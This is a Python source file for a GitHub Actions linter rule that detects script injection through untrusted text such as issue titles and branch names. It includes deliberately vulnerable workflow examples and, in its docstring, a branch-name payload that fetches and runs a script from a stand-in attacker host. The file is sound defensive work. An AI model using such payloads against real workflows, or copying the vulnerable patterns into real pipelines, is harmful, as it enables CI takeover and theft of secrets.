"""A title, a branch name or a comment that is pasted into a script runs there as code.

GitHub replaces `${{ }}` in a `run:` before any shell sees it, so quotes in the script protect nothing: a pull
request from a branch called `x";curl${IFS}evil.sh|sh;"` takes the job over with all its secrets and its token.
The way out is a variable: put the expression in the step's `env` and write `"$TITLE"` in the script, with
double quotes. The shell then reads it as text, whatever it holds.

Free text of outsiders is meant: titles, bodies, commit messages, names of people and of branches in forks, and
objects that hold them, written out with `toJSON`. Comments in a script count, a line break ends them. So does
`${{ env.NAME }}`, if the variable holds such text.

Left alone: what cannot carry code (numbers, commit hashes, logins, labels, urls, names of repositories), texts
of people with write access (`github.ref_name`, releases, inputs of a manual run), comparisons and
`contains(…)`, which only give true or false, objects without `toJSON`, and texts of an event that does not
start the workflow.
"""

from collections.abc import Iterator
from functools import partial

from ...edits import Fix, Preferences
from ...rule import Problem, Rule, Severity, example
from ...variables.language import code_of, shell_is_certain
from ...variables.moving import Body
from ...variables.value import Value
from ...workflow import Document
from .outsiders import Sources, starting_events


def check(document: Document) -> Iterator[Problem]:
    """Report each expression in a script that gives text which outsiders write."""
    sources = Sources(starting_events(document))
    for step in document.steps():
        script = step.run
        reported = list(sources.within(script, step)) if script else []
        if script is None or not reported:
            continue
        values = tuple(value for value, _ in reported)
        body = Body(step, "run", script, values, partial(code_of, step, script), shell_is_certain(step))
        for value, source in reported:
            message = f"{source}, which outsiders write, is expanded into the script"
            yield Problem(value.expression.span, message, fix=partial(read_from_variable, body, value))


def read_from_variable(body: Body, value: Value, _preferences: Preferences) -> Fix:
    """Put the text into a variable of the step and read it in the script."""
    return body.fix(value)


RULE = Rule(
    id="script-injection",
    summary="text of outsiders in a script",
    severity=Severity.ERROR,
    why=__doc__,
    check=check,
    hints=("github.event", "github.head_ref", "github[", "github.*", "tojson(github"),
    aliases=(
        "zizmor:template-injection",
        "poutine:injection",
        "octoscan:expression-injection",
        "ades:ADES100",
        "codeql:actions/code-injection",
    ),
    references=(
        "https://docs.github.com/actions/concepts/security/script-injections",
        "https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
    ),
    examples=(
        example(
            bad="""
            on:
              issues:
                types: [opened]
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: |
                      # about ${{ github.event.issue.title }}  # <--
                      echo "${{ github.event.issue.number }}: ${{ github.event.issue['title'] }}"  # <--
                  - name: Tell others
                    run: | # in one call
                      curl --data '{"text": "${{ github.event.issue.title }}"}' "$HOOK"  # <--
                      cat <<EOF >> "$GITHUB_STEP_SUMMARY"
                      ${{ github.event.issue.body }}  # <--
                      EOF
                  - env:
                      BODY: ${{ github.event.issue.body }}
                    run: echo "${{ env.BODY }}"  # <--
            """,
            good="""
            on:
              issues:
                types: [opened]
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: |
                      # about github.event.issue.title
                      echo "${{ github.event.issue.number }}: ${ISSUE_TITLE}"
                    env:
                      ISSUE_TITLE: ${{ github.event.issue['title'] }}
                  - name: Tell others
                    env:
                      ISSUE_TITLE: ${{ github.event.issue.title }}
                      ISSUE_BODY: ${{ github.event.issue.body }}
                    run: | # in one call
                      curl --data '{"text": "'"${ISSUE_TITLE}"'"}' "$HOOK"
                      cat <<EOF >> "$GITHUB_STEP_SUMMARY"
                      ${ISSUE_BODY}
                      EOF
                  - env:
                      BODY: ${{ github.event.issue.body }}
                    run: echo "${BODY}"
            """,
            near=(
                """
                on: [issues, issue_comment]
                jobs:
                  label:
                    if: contains(github.event.issue.title, 'urgent')
                    runs-on: ubuntu-24.04
                    steps:
                      - run: |
                          echo ${{ contains(github.event.issue.body, 'crash') && 'bug' || 'other' }}
                          echo ${{ github.event.comment.body == '/retest' }} ${{ !github.event.issue.body }}
                          echo ${{ github.event.issue.user.login }} ${{ join(github.event.issue.labels.*.name) }}
                          echo ${{ github.event.issue }} ${{ hashFiles(github.event.issue.title) }}
                          echo '{{ github.event.issue.title }}'
                """,
                """
                on: [workflow_dispatch, schedule]
                jobs:
                  report:
                    runs-on: ubuntu-24.04
                    steps:
                      - run: echo "${{ github.event.issue.title }} ${{ github.head_ref || github.ref_name }}"
                """,
            ),
        ),
        example(
            bad="""
            on: [push, pull_request_target]
            jobs:
              build:
                runs-on: ubuntu-24.04
                env:
                  BRANCH: ${{ github.head_ref || github.ref_name }}
                  HEAD_COMMIT_ID: none
                steps:
                  - run: git switch ${{ github.head_ref || github.ref_name }}  # <--
                  - run: >-
                      notify
                      --text '${{ github.event.head_commit.message }}'  # <--
                      --all '${{ join(github.event.commits.*.author.name, ' ') }}'  # <--
                  - {run: "echo \\"${{ github.head_ref }}\\""}  # <--
            """,
            good="""
            on: [push, pull_request_target]
            jobs:
              build:
                runs-on: ubuntu-24.04
                env:
                  BRANCH: ${{ github.head_ref || github.ref_name }}
                  HEAD_COMMIT_ID: none
                steps:
                  - run: git switch "${BRANCH}"
                  - run: >-
                      notify
                      --text "${HEAD_COMMIT_MESSAGE}"
                      --all "${COMMITS_AUTHOR_NAME}"
                    env:
                      HEAD_COMMIT_MESSAGE: ${{ github.event.head_commit.message }}
                      COMMITS_AUTHOR_NAME: ${{ join(github.event.commits.*.author.name, ' ') }}
                  - {env: {HEAD_REF: '${{ github.head_ref }}'}, run: "echo \\"${HEAD_REF}\\""}
            """,
            near=(
                """
                on: [push, pull_request_target]
                jobs:
                  build:
                    runs-on: ubuntu-24.04
                    steps:
                      - run: echo "${{ github.ref_name }} ${{ github.head_ref && 'pull request' || 'push' }}"
                      - run: echo "${{ case(github.head_ref == 'main', 'yes', 'no') }} ${{ github.sha }}"
                      - uses: some/notifier@3df4ab11eba7bda6032a0b82a6bb43b11571feac
                        with:
                          text: ${{ github.event.head_commit.message }}
                """,
            ),
        ),
        example(
            path="greet/action.yml",
            bad="""
            name: Greet
            description: Answer a comment
            runs:
              using: composite
              steps:
                - shell: bash
                  run: reply "${{ case(github.event.comment.id > 0, github.event.comment.body, 'none') }}"  # <--
            """,
            good="""
            name: Greet
            description: Answer a comment
            runs:
              using: composite
              steps:
                - shell: bash
                  env:
                    COMMENT_BODY: ${{ case(github.event.comment.id > 0, github.event.comment.body, 'none') }}
                  run: reply "${COMMENT_BODY}"
            """,
        ),
        example(
            bad="""
            on: issues
            jobs:
              greet:
                runs-on: windows-2025
                steps:
                  - run: |
                      Write-Output "Title: ${{ github.event.issue.title }}" 'by ${{ github.head_ref }}'  # <--
                      git switch ${{ github.event.issue.title }}  # <--
                  - shell: python
                    run: |
                      import json
                      print("Title: ${{ github.event.issue.title }}")  # <--
            """,
            good="""
            on: issues
            jobs:
              greet:
                runs-on: windows-2025
                steps:
                  - run: |
                      Write-Output "Title: ${env:ISSUE_TITLE}" 'by ${{ github.head_ref }}'
                      git switch $env:ISSUE_TITLE
                    env:
                      ISSUE_TITLE: ${{ github.event.issue.title }}
                  - shell: python
                    env:
                      ISSUE_TITLE: ${{ github.event.issue.title }}
                    run: |
                      import os
                      import json
                      print("Title: " + os.environ["ISSUE_TITLE"])
            """,
        ),
        example(
            bad="""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: |
                      bash -c "echo ${{ github.event.issue.title }}"  # <--
                      for word in ${{ github.event.issue.title }}; do echo "$word"; done  # <--
                      cat <<'EOF'
                      ${{ github.event.issue.title }}  # <--
                      EOF
                  - shell: python
                    run: event = ${{ toJSON(github.event) }}  # <--
                  - shell: cmd
                    run: echo ${{ github.event.issue.title }}  # <--
                  - &greet
                    run: echo "${{ github.event.issue.title }}"  # <--
                  - *greet
            """,
            good="""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                env:
                  TITLE: ${{ github.event.issue.title }}
                steps:
                  - run: |
                      bash -c 'echo "$TITLE"'
                      printf '%s\\n' "$TITLE"
                      cat <<EOF
                      $TITLE
                      EOF
                  - shell: python
                    run: |
                      import json, os, pathlib
                      event = json.loads(pathlib.Path(os.environ["GITHUB_EVENT_PATH"]).read_text())
                  - shell: pwsh
                    run: Write-Output $env:TITLE
                  - &greet
                    run: echo "$TITLE"
                  - *greet
            """,
        ),
    ),
)
